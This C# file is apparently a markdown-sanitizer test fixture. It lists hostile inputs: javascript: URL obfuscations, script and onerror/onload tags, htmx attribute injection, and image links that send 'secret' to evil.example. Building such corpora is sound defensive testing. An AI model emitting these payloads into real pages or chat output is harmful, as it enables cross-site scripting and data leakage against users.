namespace ChatMonolith.Tests.Unit.Markdown;

internal static class HostileCorpus
{
    private static readonly string[] Schemes =
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java&#10;script:alert(1)",
        "javascript&colon;alert(1)", "javascript&#58;alert(1)", "&#x6A;avascript:alert(1)", "javascript://%0aalert(1)", "\u0001javascript:alert(1)",
        "vbscript:x", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd", "blob:x", "ws://x",
        "feed:javascript:alert(1)", "view-source:javascript:alert(1)", "jar:javascript:x!", "/\\evil.example", "\\\\evil.example", "javascript\\:alert(1)",
        "x-javascript:alert(1)", "about:blank", "intent://x", "http:javascript:alert(1)", "javascript%3Aalert(1)", "&Tab;javascript:alert(1)",
    ];

    private static readonly string[] Texts =
    [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=\"x\" onclick=alert(1)>y</a>",
        "<div hx-get=/danger hx-trigger=load>", "<div data-hx-get=\"/x\" data-hx-trigger=\"load\">", "<div sse-connect=\"/x\">", "<div hx-on:load=\"x\">", "<hx-partial hx-target=body>x</hx-partial>",
        "<form action=/logout method=post><button>", "<style>*{background:url(//evil)}</style>", "<link rel=prefetch href=//evil>", "<meta http-equiv=refresh content=0>", "<base href=//evil>",
        "<template><script>x</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>x</script>]]>", "<?x <script>?>",
        "# h {onclick=alert(1)}", "para {onclick=alert(1) hx-get=/danger hx-trigger=load}", "para {#id .class hx-get=/x}", "- item {hx-get=/x}", "[a](b){hx-get=/x onclick=x}", "`c`{onclick=x}", "*e*{onclick=x}",
        "![a](http://a.example/i.png){onerror=alert(1)}", "| a {onclick=x} |\n|---|\n| b |", "{hx-get=/x}\npara", "```js {hx-get=/x}\na\n```", "```x\" onclick=\"alert(1)\na\n```", "```<script>\na\n```", "```\n</code></pre><script>alert(1)</script>\n```",
        ":::x {hx-get=/x}\ntext\n:::", "::: hx-get\nx\n:::", "![video](https://www.youtube.com/watch?v=x)", "![a](//evil.example/p.png?d=secret)", "![a](https://evil.example/p.png?d=secret)", "![a][r]\n\n[r]: https://evil.example/p.png",
        "[r]\n\n[r]: javascript:alert(1)", "[r]\n\n[r]: /x \"\\\" onclick=alert(1) x=\\\"\"", "[a](http://x \"\\\" onclick=\\\"alert(1)\")", "[a](http://x\"onclick=alert(1))", "[a](<http://x\" onclick=alert(1)>)", "[<img src=x onerror=alert(1)>](http://x)",
        "![\" onerror=\"alert(1)](http://x/i.png)", "![<script>alert(1)</script>](data:image/svg+xml,<svg/onload=alert(1)>)", "http://x/\"onmouseover=alert(1)", "http://x/<script>", "<http://x/\"onclick=alert(1)>", "www.x.example/\"><script>alert(1)</script>",
        "$<script>alert(1)</script>$", "$$\n</div><script>alert(1)</script>\n$$", "$\\href{javascript:alert(1)}{x}$", "> [!NOTE\" onclick=\"x]\n> a", "> [!<script>]\n> a", "[[1]]{onclick=x}", "[[1\" onclick=x]]", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
        "[^1]\n\n[^1]: <script>", "*[HTML]: <script>\nHTML", "\0<script\0>alert(1)</script>", "<scr\0ipt>alert(1)</script>", "```mermaid\ngraph TD; A-->B; click A \"javascript:alert(1)\"\n```", "[x]()", "[]()", "![]()", "[a](#\" onclick=\"x)", "~~~ \" hx-get=/x\na\n~~~",
    ];

    public static string[] All =>
    [
        .. Texts, .. Schemes.Select(s => $"[x]({s})"), .. Schemes.Select(s => $"[x](<{s}>)"), .. Schemes.Select(s => $"<{s}>"), .. Schemes.Select(s => $"![x]({s})"),
        .. Schemes.Select(s => $"[x]\n\n[x]: {s}\n"),
    ];
}
